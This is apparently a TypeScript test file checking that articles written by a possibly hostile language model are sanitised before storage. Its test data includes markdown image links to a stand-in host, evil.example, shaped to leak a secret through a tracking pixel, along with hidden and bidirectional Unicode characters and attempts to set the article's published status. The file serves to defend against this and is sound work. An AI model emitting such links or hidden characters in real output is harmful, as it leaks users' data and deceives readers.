// Models repeat their training data. Whatever a model writes, the stored article runs nothing, loads nothing, and links
// only to the web.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { hostileAddresses, hostileTexts } from '../../../../../test/support/corpora/hostile-texts.ts'
import { databaseFor } from '../../../../../test/support/databases.ts'
import { form, goodArticle } from '../../../../../test/support/providers/article-texts.ts'
import { generationDesk } from '../../../../../test/support/providers/generation-desk.ts'
import { openaiChat } from '../../../../../test/support/providers/openai-chat.ts'
import { type ProviderDouble, startProviderDouble } from '../../../../../test/support/providers/provider-double.ts'
import { articleWriter } from './write-article.ts'

const trackers = [
  'http://evil.example/p.gif?d=',
  'https://evil.example/{{secret}}',
  '//evil.example/x',
  'data:image/png,x',
]
const outputs = [
  ...hostileTexts,
  ...trackers.map((address) => `![reader](${address})`),
  ...trackers.map((address) => `[![x](${address})](${address})`),
  ...trackers.map((address) => `![x][1]\n\n[1]: ${address}`),
  'Seen: \u202egnp.exe\u202c, \u2066left\u2069, in\u200bvisible\u2060 \u{e0041}\u{e0042}, \ufeffmark',
  'NUL \0, escape \u001b[31m, bell \u0007, next line \u0085, separators \u2028 \u2029',
  'Lone \ud800 surrogate and \udfff another',
]

let provider: ProviderDouble
let desk: Awaited<ReturnType<typeof generationDesk>>
const database = databaseFor('postgresql')
beforeAll(async () => {
  provider = await startProviderDouble()
  const writer = articleWriter({ ai: provider.settings(openaiChat), retryPauseMs: 1 })
  desk = await generationDesk({ database: database(), writer })
})
afterAll(async () => {
  await desk?.close()
  await provider?.close()
})

async function articleOf(written: object) {
  provider.behave(openaiChat, { kind: 'text', text: JSON.stringify({ ...goodArticle, ...written }) })
  const { status, body } = await desk.generate(form)
  expect(status).toBe(201)
  return body.article
}

describe('a hostile model', () => {
  it('is tested with over 100 texts', () => {
    expect(new Set(outputs).size).toBeGreaterThan(100)
  })

  it.each(outputs)('cannot make the article run or load anything: %j', async (output) => {
    const article = await articleOf({
      title: `A ${output}`.slice(0, 190),
      description: `${goodArticle.description}\n\n${output}\n\n- ${output}\n\n${output}`,
      practicalAdvice: `${goodArticle.practicalAdvice}\n- ${output}\n\n${output}`,
      tags: [output.slice(0, 40), 'safe'],
      metaDescription: output,
    })
    for (const html of [article.bodyHtml, article.adviceHtml]) expectInert(html)
    expect(JSON.stringify(article)).not.toMatch(/\\u0000|\\ud[89a-f]/i)
    expect(JSON.stringify(article)).not.toMatch(
      /[\u202a-\u202e\u2066-\u2069\u200b\ufeff\u0080-\u009f\u{e0000}-\u{e0fff}]/u,
    )
  })

  it.each(hostileAddresses)('cannot add a citation outside the web: %j', async (address) => {
    const { citations } = await articleOf({
      citations: [address, 'https://example.com/real', 'https://a@evil.example/'],
    })
    expect(citations).toContain('https://example.com/real')
    for (const citation of citations) expect(new URL(citation).protocol).toMatch(/^https?:$/)
    expect(citations).not.toContain('https://a@evil.example/')
  })

  it('sets neither the state nor the origin of its article', async () => {
    const article = await articleOf({
      status: 'published',
      origin: 'manual',
      id: 1,
      category: 'ai',
      publishedAt: '2026-01-01',
    })
    expect(article).toMatchObject({ status: 'draft', origin: 'generated', category: form.category, publishedAt: null })
  })
})

const harmlessTag =
  /^<\/?(h[2-6]|p|br|hr|blockquote|ul|ol|li|pre|code|div|strong|em|s|a|table|thead|tbody|tr|th|td)((?: (?:href|rel|id|start|class|tabindex)="[^"<>]*")*)(?: \/)?>$/

/** Allows only tags of prose, and links to the web or a mail address. Text may be anything. */
function expectInert(html: string): void {
  for (const tag of html.match(/<[^>]*>?/g) ?? []) {
    expect(tag).toMatch(harmlessTag)
    const href = / href="([^"]*)"/.exec(tag)?.[1]
    if (href === undefined) continue
    const url = new URL(href.replaceAll('&amp;', '&'), 'https://tools.example.com/')
    expect(['http:', 'https:', 'mailto:']).toContain(url.protocol)
  }
}
